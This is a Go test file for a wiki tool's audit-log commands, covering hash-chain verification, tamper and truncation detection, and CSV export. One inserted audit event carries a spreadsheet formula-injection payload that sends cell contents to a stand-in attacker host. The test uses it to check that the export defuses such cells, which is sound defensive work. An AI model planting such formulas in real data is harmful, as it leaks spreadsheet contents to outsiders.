package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/jackc/pgx/v5"

	"hansewiki/migrations/pgtest"
)

// auditCLI runs "hansewiki audit ARGS" against dbURL.
func auditCLI(t *testing.T, dbURL string, args ...string) (stdout, stderr string, err error) {
	t.Helper()
	var out, errOut bytes.Buffer
	cfg, err := ConfigFromEnv(env("DATABASE_URL", dbURL))
	if err != nil {
		t.Fatal(err)
	}
	err = cmdAudit(context.Background(), cfg, slog.New(slog.NewTextHandler(io.Discard, nil)),
		args, &out, &errOut)
	return out.String(), errOut.String(), err
}

// readAuditCSV parses an export: UTF-8 with BOM, a header row, the events.
func readAuditCSV(t *testing.T, data []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(data, []byte("\ufeff")) {
		t.Error("the CSV lacks the UTF-8 byte order mark spreadsheet programs need for umlauts")
	}
	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatalf("export is no valid CSV: %v\n%s", err, data)
	}
	want := []string{"seq", "at", "actor", "action", "object", "detail", "client_addr", "hash"}
	if len(records) == 0 || strings.Join(records[0], ",") != strings.Join(want, ",") {
		t.Fatalf("header row %v, want %v", records, want)
	}
	return records[1:]
}

func TestAuditVerifyAndExport(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	dbURL := pgtest.URL(t)
	if out, err := cli(t, dbURL, "import", writeCorpus(t, corpus)); err != nil {
		t.Fatalf("import: %v\n%s", err, out)
	}
	db, err := pgx.Connect(ctx, dbURL)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close(ctx)
	// Someone's display of the log in a spreadsheet must not run what an
	// actor string smuggled in.
	if _, err := db.Exec(ctx, `INSERT INTO audit_events (actor, action, object, detail, client_addr)
		VALUES ('=HYPERLINK("https://evil.example/?"&A1)', 'article.import', 'article:rostock/starkregen-hinweiskarte',
			'{"revision": 1234567, "source": "+rostock"}', '@198.51.100.7')`); err != nil {
		t.Fatal(err)
	}
	var events int
	db.QueryRow(ctx, `SELECT count(*) FROM audit_events`).Scan(&events)
	if events < 4 {
		t.Fatalf("the import wrote %d audit events", events)
	}

	out, _, err := auditCLI(t, dbURL, "verify")
	if err != nil || !strings.Contains(out, fmt.Sprintf("audit log intact: %d events", events)) {
		t.Fatalf("verify of an untouched log: %v\n%s", err, out)
	}
	anchor := regexp.MustCompile(`newest event: ([0-9]+:[0-9a-f]{64})`).FindStringSubmatch(out)
	if anchor == nil {
		t.Fatalf("verify printed no anchor to keep:\n%s", out)
	}
	if _, _, err := auditCLI(t, dbURL, "verify", "--expect", "1:abc"); err == nil || !strings.Contains(err.Error(), "SEQ:HASH") {
		t.Errorf("a malformed anchor: %v", err)
	}

	// Export everything to a file.
	file := filepath.Join(t.TempDir(), "audit.csv")
	if out, _, err := auditCLI(t, dbURL, "export", file); err != nil || !strings.Contains(out, fmt.Sprintf("exported %d audit events", events)) {
		t.Fatalf("export: %v\n%s", err, out)
	}
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	rows := readAuditCSV(t, data)
	if len(rows) != events {
		t.Fatalf("%d rows exported, want %d", len(rows), events)
	}
	for i, r := range rows {
		if r[0] != fmt.Sprint(i+1) {
			t.Fatalf("row %d has chain position %s: the export is not in chain order", i+1, r[0])
		}
	}
	hostile := rows[len(rows)-1]
	if hostile[2] != `'=HYPERLINK("https://evil.example/?"&A1)` || hostile[6] != "'@198.51.100.7" {
		t.Errorf("formula-looking cells not defused: actor %q, client %q", hostile[2], hostile[6])
	}
	if hostile[5] != "revision=1234567; source=+rostock" {
		t.Errorf("detail cell %q", hostile[5])
	}
	imported := 0
	for _, r := range rows {
		if r[3] == "article.import" && strings.HasPrefix(r[2], "cli:") && len(r[7]) == 64 {
			imported++
		}
	}
	if imported != 3 {
		t.Errorf("%d import events by the CLI user with a hash, want one per article", imported)
	}

	// A filtered export to standard output, the flag after the file name.
	out, stderr, err := auditCLI(t, dbURL, "export", "-", "--object", "article:wismar/gruendach-kataster")
	if err != nil || !strings.Contains(stderr, "exported 1 audit events") {
		t.Fatalf("filtered export: %v\n%s", err, stderr)
	}
	if rows := readAuditCSV(t, []byte(out)); len(rows) != 1 || rows[0][4] != "article:wismar/gruendach-kataster" {
		t.Fatalf("filtered export: %v", rows)
	}

	// The log grows; the old anchor still holds. Then someone with database
	// access deletes the newest events: the chain that is left is intact,
	// but the anchor kept outside reveals the loss.
	if _, err := db.Exec(ctx, `INSERT INTO audit_events (actor, action, object, detail, client_addr)
		VALUES ('admin', 'role.grant', 'user:neu', '{}', '192.0.2.1'), ('admin', 'role.grant', 'user:neu2', '{}', '192.0.2.1')`); err != nil {
		t.Fatal(err)
	}
	if out, _, err := auditCLI(t, dbURL, "verify", "--expect", anchor[1]); err != nil {
		t.Fatalf("verify with the earlier anchor after the log grew: %v\n%s", err, out)
	}
	out, _, _ = auditCLI(t, dbURL, "verify")
	newest := regexp.MustCompile(`newest event: ([0-9]+:[0-9a-f]{64})`).FindStringSubmatch(out)
	if _, err := db.Exec(ctx, `DROP RULE audit_events_no_delete ON audit_events`); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec(ctx, `DELETE FROM audit_events WHERE chain_seq > $1`, events); err != nil {
		t.Fatal(err)
	}
	if out, _, err := auditCLI(t, dbURL, "verify"); err != nil {
		t.Fatalf("the truncated chain itself is intact, yet verify failed: %v\n%s", err, out)
	}
	if _, _, err := auditCLI(t, dbURL, "verify", "--expect", newest[1]); err == nil || !strings.Contains(err.Error(), "TRUNCATED") {
		t.Errorf("verify with the anchor of a deleted event: %v", err)
	}
	fake := anchor[1][:len(anchor[1])-1] + "0"
	if strings.HasSuffix(anchor[1], "0") {
		fake = anchor[1][:len(anchor[1])-1] + "1"
	}
	if _, _, err := auditCLI(t, dbURL, "verify", "--expect", fake); err == nil || !strings.Contains(err.Error(), "REWRITTEN") {
		t.Errorf("verify with a different hash at the anchor: %v", err)
	}

	// Someone with database access rewrites who imported the second article.
	if _, err := db.Exec(ctx, `DROP RULE audit_events_no_update ON audit_events;
		UPDATE audit_events SET actor = 'jemand' WHERE chain_seq = 2`); err != nil {
		t.Fatal(err)
	}
	out, _, err = auditCLI(t, dbURL, "verify")
	if err == nil {
		t.Fatalf("verify of a tampered log succeeded:\n%s", out)
	}
	for _, want := range []string{"chain position 2", "content does not match", "jemand"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("verify error %q does not say %q", err, want)
		}
	}

	if _, _, err := auditCLI(t, dbURL, "export"); err == nil || !strings.Contains(err.Error(), "usage") {
		t.Errorf("export without a file: %v", err)
	}
}
